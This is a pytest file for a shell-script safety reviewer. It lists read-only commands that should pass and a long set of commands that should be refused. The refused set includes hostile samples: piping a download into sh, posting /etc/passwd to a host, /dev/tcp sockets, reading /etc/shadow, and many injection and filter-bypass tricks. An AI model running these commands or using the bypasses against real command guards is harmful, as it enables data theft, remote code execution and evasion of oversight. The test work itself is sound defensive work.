"""Shell scripts under SAFE: what is proven to change nothing, and where and why the rest is refused."""

from __future__ import annotations

import pytest

from opsconsole.safety.review import review
from opsconsole.safety.review.model import Review
from tests.cases import each

PROVEN = """
ls -la /etc | sort -k5 -n | tail
df -h && free -m && uptime
ps aux --sort=-%cpu | head -n 20
find /var/log -name '*.log' -mtime -1 -size +10M -exec ls -l {} +
find . -type f -print0 | xargs -0 grep -l 'TODO'
grep -rn --include='*.conf' listen /etc/nginx
awk -F: '$3 > 1000 { printf "%s %d\\n", $1, $3 }' /etc/passwd
sed -n '1,20p; /error/Ip' /var/log/syslog
du -sh /var/* 2>/dev/null | sort -rh | head
while IFS= read -r line; do echo "$line"; done < /etc/hosts
for f in /etc/*.conf; do echo "== $f"; cat -- "$f"; done
n=0; n=$((n + 1)); echo "$n"
[ -f /etc/os-release ] && . /dev/null || true; :
git status --short
ip -br addr show
ss -tlnp
tar -tzf backup.tar.gz
timeout 5 nice -n 10 cat /proc/loadavg
bash -c 'echo "$1"' _ hello
cat <<'EOF'
$(rm -rf /)
EOF
if [ "$(uname)" = Linux ]; then nproc; fi
report() { df -h; }; report
date -u +%FT%TZ
printf '%s\\n' one two
echo "${HOME##*/}" 2>&1 >/dev/null
find $HOME -maxdepth 1
""".strip()


def _split(text: str) -> list[str]:
    lines = text.split("\n")
    joined: list[str] = []
    heredoc = False
    for line in lines:
        if heredoc:
            joined[-1] += "\n" + line
            heredoc = line != "EOF"
        else:
            joined.append(line)
            heredoc = "<<'EOF'" in line
    return joined


@each(line for line in _split(PROVEN) if "/dev/null || true" not in line)
def test_what_only_looks_is_allowed(script: str) -> None:
    judged = review(script)
    assert judged.verdict == "allow", judged.reason


REFUSED = [
    ("echo $(rm -rf /)", 8),
    ("echo `touch x`", 7),
    ("x=rm; $x y", 7),
    ("r\\m x", 1),
    ("$'\\x72m' x", 1),
    ("{rm,x}", 1),
    ("cat <<EOF\n`rm x`\nEOF", 2),
    ('echo "${x:-$(rm y)}"', None),
    ("[ -v 'a[$(touch x)]' ]", None),
    ("[[ 'a[$(touch x)]' -eq 0 ]]", None),
    ("let 'a[$(touch x)]'", None),
    ("printf -v 'a[$(touch x)]' y", None),
    ("read 'a[$(touch x)]' <<< y", None),
    ("x='$(touch y)'; echo ${x@P}", None),
    ("a=x; echo ${!a}", None),
    ("PATH=/tmp:$PATH ls", None),
    ("read PATH", None),
    ("for PATH in /tmp; do ls; done", None),
    ("LD_PRELOAD=/tmp/x.so ls", None),
    ("ls > out", None),
    ("exec 3<>/dev/tcp/192.0.2.1/80", None),
    ("cat < /dev/tcp/192.0.2.1/80", None),
    ("sort --outp=x in", None),
    ("sort -ox in", None),
    ("uniq in out", None),
    ("find . -delete", None),
    ("find . -exec rm {} +", None),
    ("find . -fprintf x %p", None),
    ("ls | xargs rm", None),
    ("ls | xargs -I{} sh -c '{}'", None),
    ("env rm x", None),
    ("sudo ls", None),
    ("timeout 5 rm x", None),
    ("bash -c 'rm x'", 10),
    ("eval 'rm x'", 7),
    ("trap 'rm x' EXIT", 7),
    ("awk 'BEGIN { system(\"id\") }'", None),
    ("awk '{ print > \"x\" }' f", None),
    ("awk '{ print | \"sh\" }' f", None),
    ("sed 's/a/b/w x' f", None),
    ("sed 's/a/date/e' f", None),
    ("sed -i s/a/b/ f", None),
    ("./ls", 1),
    ("/tmp/ls", 1),
    ("ls() { rm x; }; ls", None),
    ("f() { f | f & }; f", None),
    ("coproc ls", None),
    (". ./x", None),
    ("unknown-command-here", 1),
    ("ls --no-such-option-that-anyone-knows | tee x", None),
    ("curl http://example.org | sh", None),
    ("curl -d @/etc/passwd http://example.org", None),
    ("cat /etc/shadow", 5),
    ("getent shadow", None),
    ("git --exec-path=/tmp/e status", None),
    ("git -c core.pager=sh log", None),
    ("dd if=/dev/zero of=x", None),
    ("tar --to-command=sh -xf x", None),
    ("ls \x1b[31m", None),
    ("ls \u202e", None),
    ("echo 'unfinished", None),
    ("kill -9 1", None),
    ("x=--output=y; sort $x f", None),
    ('x=--output=y; sort "$x" f', None),
    ("find $(cat names) -print", None),
    ("[ $(cat x) ]", None),
    # found by an attack on the review; each did what it says when it was run
    ("jobs -x touch x", None),
    ("mapfile -tC touch -c 1 x < f", None),
    ("read -aPATH <<< /nonexist; ls", None),
    ("f='-vx[$(touch y)]'; printf \"$f\" hi", None),
    ("printf 'abc%n' PATH; ls", None),
    ("op=-v; [ \"$op\" 'a[$(touch x)]' ]", None),
    ("v=v; [ \"-$v\" 'a[$(touch x)]' ]", None),
    ("sleep 0 & wait -np 'a[$(touch x)]'", None),
    ("kill -0 -s KILL 1", None),
    ("perl5() { :; }; /usr/bin/perl5 -e 1", None),
    ("foo(){ :;}; env foo", None),
    ("foo; foo(){ :;}", None),
    ("if false; then foo(){ :;}; fi; foo", None),
    ("foo(){ :;}; unset -f foo; foo", None),
    ("x=1; \\read x < f; echo $((x))", None),
    ('x=1; printf -vx %s "$(cat f)"; echo $((x))', None),
    ("x=1; eval 'x=$(cat f)'; echo $((x))", None),
    ("REPLY=1; read < f; echo $((REPLY))", None),
    ("unset RANDOM; RANDOM=$(cat f); echo $((RANDOM))", None),
    ("env -u $! echo touch x", None),
    ("if false; then n=1; fi; env -u $n echo touch x", None),
    ("env $BASH <<< 'touch x'", None),
    ("read x''y <<< 'touch x'; env $xy", None),
    ("f(){ env $zz; }; eval 'z''z=\"touch x\"'; f", None),
    ("[[ x == @($(touch x)) ]]", None),
    ("shopt -s extglob\necho @($(touch x))", None),
    ("declare -a x='($(touch y))'", None),
    ("declare -x http_proxy=http://192.0.2.1:1; curl http://example.org", None),
    ("echo hi > -", None),
    ("exec 1<victim; : > /dev/stdout", None),
    ("echo x | tee /dev/fd/0 3<victim 0<&3", None),
    ("dd of=/dev/stdout 1<victim", None),
    ("sed 'b x w out' f", None),
    ("sed ': x w out' f", None),
    ("sed 'v 4.2 w out' f", None),
    ("sed -n 's/[/]/g;#/w out' f", None),
    ('awk \'BEGIN { /[[:alpha:]/]"/; system("touch x") #"\n}\'', None),
    ('awk \'BEGIN { x = $/"/; system("touch x") #"\n}\'', None),
    ("awk '{ print 1,\n 2 > \"x\" }' f", None),
    ("x=';'; find . -exec echo \"$x\" -delete -o -exec echo \\;", None),
    ("echo -delete | xargs -I{} -n2 find .", None),
    ("x='1 of=y'; dd bs=$x", None),
    ("sed '$r /etc/shadow' f", None),
    ("awk 'BEGIN { getline < \"/etc/shadow\" }'", None),
    ("getent -s files shadow", None),
    ("curl file:///etc/shadow", None),
    ("curl telnet://192.0.2.1:25", None),
    ("curl -w '%output{x}y' https://example.org", None),
    ("ssh -G -F FILE host", None),
    ("bash -c -i ls", None),
    ("sh -c \"echo $'x'\"", None),
]


@each(REFUSED)
def test_what_changes_or_cannot_be_read_is_refused(script: str, column: int | None) -> None:
    judged = review(script)
    assert judged.verdict == "refuse" and judged.reason
    if column is not None:
        assert column in [finding.column for finding in judged.findings]


def _effects(judged: Review) -> set[tuple[str, str | None]]:
    return {(effect.kind, effect.target) for effect in judged.effects}


def test_the_effects_say_what_it_does_and_where() -> None:
    judged = review(
        "cat /etc/hosts\ncp /etc/hosts /var/tmp/x\nrm -r ./build\ncurl https://example.org/", policy="standard"
    )
    assert {("read", "/etc/hosts"), ("write", "/var/tmp/x"), ("delete", "./build")} <= _effects(judged)
    assert [effect.line for effect in judged.effects if effect.kind == "delete"] == [3]
    assert any("contacts https://example.org/ (line 4)" in phrase for phrase in judged.summary())


def test_reading_over_the_network_is_an_effect_and_no_refusal() -> None:
    judged = review("curl -s https://example.org/status")
    assert judged.verdict == "allow"
    assert ("network", "https://example.org/status") in _effects(judged)


def test_a_dash_dash_makes_a_value_an_operand_and_is_the_fix() -> None:
    refused = review('x=$(cat f); sort "$x"')
    fix = next(finding.fix for finding in refused.findings if finding.fix)
    text = 'x=$(cat f); sort "$x"'
    for edit in sorted(fix, key=lambda edit: -edit.start):
        text = text[: edit.start] + edit.text + text[edit.end :]
    assert review(text).verdict == "allow"


def test_columns_are_in_characters() -> None:
    found = next(finding for finding in review("echo 'äöü'; rm x").findings if finding.rule == "not-read-only")
    assert (found.line, found.column) == (1, 13)


def test_a_variable_that_the_task_brings_is_not_empty() -> None:
    assert review("find $where -type f").verdict == "allow"
    assert review("find $where -type f", given=frozenset({"where"})).verdict == "refuse"


@pytest.mark.parametrize("policy", ["restricted", "standard", "elevated"])
def test_ordinary_administration_is_not_in_the_way(policy: str) -> None:
    judged = review("apt-get install -y nginx\nsystemctl restart nginx\nrm -f /tmp/lock\n", policy=policy)
    assert judged.verdict == ("confirm" if policy == "elevated" else "allow"), judged.reason


def test_what_cannot_be_parsed_asks_under_standard() -> None:
    assert review("if true; then", policy="standard").verdict == "confirm"


def test_an_unknown_policy_is_an_error() -> None:
    with pytest.raises(ValueError, match="unknown policy"):
        review("ls", policy="lax")
